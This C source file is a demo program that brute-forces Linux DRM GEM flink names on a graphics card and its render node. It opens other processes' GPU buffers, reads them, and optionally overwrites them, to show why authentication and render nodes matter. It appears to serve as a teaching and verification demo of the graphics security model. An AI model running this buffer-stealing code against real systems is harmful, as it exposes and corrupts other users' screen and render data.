/*
 * testcard-thief: guesses flink names. They are small numbers, the same for all
 * processes, and whoever knows one has the buffer, to read and to write: that is
 * why descriptors, which can only be given, took their place. What stands between
 * a thief and the buffers is that names are for the authenticated (DRM_AUTH), and
 * that a render node has none at all.
 *
 * Ends with 3 when it got something, with 0 when it got nothing.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <i915_drm.h>
#include <xf86drm.h>

#include "demo_options.h"
#include "demo_window.h"

enum { STOLEN = 3, MARK_BYTES = 4096 };

static struct {
	const char *device;
	bool authenticate, mark;
	int names;
} options = {.device = "/dev/dri/card0", .names = 64};

/* Red, from end to end, whatever the tiling. */
static void mark(int fd, const struct drm_gem_open *got)
{
	static uint32_t red[MARK_BYTES / 4];

	for (unsigned i = 0; i < MARK_BYTES / 4; i++)
		red[i] = 0xffff0000;
	for (uint64_t at = 0; at + MARK_BYTES <= got->size; at += MARK_BYTES) {
		struct drm_i915_gem_pwrite pwrite = {.handle = got->handle, .offset = at,
			.size = MARK_BYTES, .data_ptr = (uintptr_t)red};

		if (drmIoctl(fd, DRM_IOCTL_I915_GEM_PWRITE, &pwrite)) {
			printf("    can not write: %s\n", strerror(errno));
			return;
		}
	}
	printf("    written to\n");
}

static void look_at(int fd, uint32_t name, const struct drm_gem_open *got)
{
	uint32_t pixel = 0;
	struct drm_i915_gem_pread pread = {.handle = got->handle, .size = sizeof(pixel),
		.data_ptr = (uintptr_t)&pixel};

	if (drmIoctl(fd, DRM_IOCTL_I915_GEM_PREAD, &pread))
		printf("  name %u: %llu bytes, unreadable: %s\n", name,
			(unsigned long long)got->size, strerror(errno));
	else
		printf("  name %u: %llu bytes, begins with %08x\n", name,
			(unsigned long long)got->size, pixel);
	if (options.mark)
		mark(fd, got);
	drmCloseBufferHandle(fd, got->handle);
}

/* How many of the names it could open. */
static int guess(int fd, const char *who)
{
	int got = 0, refused = 0, nothing = 0;

	for (int name = 1; name <= options.names; name++) {
		struct drm_gem_open open = {.name = name};

		if (drmIoctl(fd, DRM_IOCTL_GEM_OPEN, &open) == 0) {
			got++;
			look_at(fd, name, &open);
		} else if (errno == EACCES) {
			refused++;
		} else if (errno == ENOENT) {
			nothing++;
		} else {
			demo_die("name %d: %s", name, strerror(errno));
		}
	}
	printf("%s: of %d names %d opened, %d refused, %d are of nothing\n", who, options.names,
		got, refused, nothing);
	return got;
}

/* On a render node one can not even give a name to what is one's own. */
static int try_render_node(int card)
{
	struct drm_i915_gem_create create = {.size = 4096};
	char *path = drmGetRenderDeviceNameFromFd(card);
	int fd = path ? open(path, O_RDWR | O_CLOEXEC) : -1;

	if (fd < 0) {
		printf("no render node\n");
		free(path);
		return 0;
	}
	int got = guess(fd, path);
	if (drmIoctl(fd, DRM_IOCTL_I915_GEM_CREATE, &create))
		demo_die("%s: no buffer: %s", path, strerror(errno));
	struct drm_gem_flink flink = {.handle = create.handle};
	if (drmIoctl(fd, DRM_IOCTL_GEM_FLINK, &flink))
		printf("%s: a name for one's own buffer: %s\n", path, strerror(errno));
	else
		printf("%s: a name for one's own buffer: %u\n", path, flink.name);
	close(fd);
	free(path);
	return got;
}

static int steal(void)
{
	struct demo_window window;
	int card = open(options.device, O_RDWR | O_CLOEXEC);

	if (card < 0)
		demo_die("%s: %s", options.device, strerror(errno));
	if (options.authenticate) {
		demo_connect(&window);
		demo_authenticate(&window, card);
	}
	int got = guess(card, options.authenticate ? "card, authenticated" :
		geteuid() == 0 ? "card, as root" : "card, not authenticated");
	got += try_render_node(card);
	if (options.authenticate)
		demo_disconnect(&window);
	close(card);
	return got ? STOLEN : EXIT_SUCCESS;
}

int main(int argc, char **argv)
{
	const struct demo_option table[] = {
		{"authenticate", "has the compositor let it in first (by wl_drm)",
			.flag = &options.authenticate},
		{"mark", "writes into what it gets", .flag = &options.mark},
		{"names", "tries 1 to N (default: 64)", .number = &options.names, .least = 1,
			.most = 1000000},
		{"device", "the card (default: /dev/dri/card0)", .text = &options.device},
		{0},
	};

	demo_options(argc, argv,
		"Tries flink names on the card and on its render node, says what it got, and ends\n"
		"with 3 if that was anything, else with 0.",
		table);
	return steal();
}
